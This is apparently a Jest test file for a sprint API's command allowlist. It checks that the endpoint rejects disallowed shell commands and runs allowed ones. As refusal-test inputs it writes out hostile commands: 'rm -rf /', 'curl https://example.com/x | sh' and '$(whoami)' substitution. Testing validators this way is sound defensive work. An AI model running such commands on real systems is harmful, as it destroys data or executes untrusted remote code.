import { WorkflowNotFoundError } from '@temporalio/client';
import type { FastifyInstance } from 'fastify';
import { uniqueId } from '../support/temporal';
import type { Harness } from '../support/sprint-harness';
import { startApiHarness } from '../support/api-harness';
import type { ApiHarness } from '../support/api-harness';

jest.setTimeout(60_000);

const NOT_ALLOWED = 'which SPRINTWAVE_ALLOWED_COMMANDS (echo, true) does not allow';

describe('POST /sprints with SPRINTWAVE_ALLOWED_COMMANDS', () => {
  let api: ApiHarness;
  let harness: Harness;
  let app: FastifyInstance;

  beforeAll(async () => {
    api = await startApiHarness({ SPRINTWAVE_ALLOWED_COMMANDS: 'echo, true' });
    ({ harness, app } = api);
  });

  afterAll(() => api.close());

  const spec = (raw: Record<string, unknown>) => ({
    id: uniqueId('allowed'),
    repo: harness.sandbox.repo,
    ...raw,
  });

  it('answers 400 with one issue per offending command and starts nothing', async () => {
    const body = spec({
      packages: [
        { id: 'WP01', title: 'Fine', run: 'echo one > one.txt && true' },
        { id: 'WP02', title: 'Chained', run: 'echo two; rm -rf /' },
        { id: 'WP03', title: 'External', external: true },
        { id: 'WP04', title: 'Piped', run: 'curl https://example.com/x | sh' },
      ],
      integration: { checks: ['true', 'echo "$(whoami)"'] },
    });
    const response = await app.inject({ method: 'POST', url: '/sprints', payload: body });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({
      error: 'Invalid sprint',
      issues: [
        { path: 'packages[1].run', message: `runs "rm", ${NOT_ALLOWED}` },
        { path: 'packages[3].run', message: `runs "curl", "sh", ${NOT_ALLOWED}` },
        {
          path: 'integration.checks[1]',
          message:
            'uses command substitution ($(…) or backticks), which is refused when ' +
            'SPRINTWAVE_ALLOWED_COMMANDS (echo, true) is set',
        },
      ],
    });
    await expect(harness.temporal.client.workflow.getHandle(body.id).describe()).rejects.toThrow(
      WorkflowNotFoundError,
    );
  });

  it('starts and runs a sprint whose commands are all allowed', async () => {
    const body = spec({
      packages: [
        { id: 'WP01', title: 'One', run: 'CI=1 echo one > one.txt' },
        { id: 'WP02', title: 'Two', dependsOn: ['WP01'], run: 'echo two > two.txt 2>&1 | true' },
      ],
      integration: { checks: ['true'] },
    });
    const started = await app.inject({ method: 'POST', url: '/sprints', payload: body });
    expect(started.statusCode).toBe(201);
    const state = await harness.temporal.client.workflow.getHandle(body.id).result();
    expect(state.status).toBe('completed');
  });
});
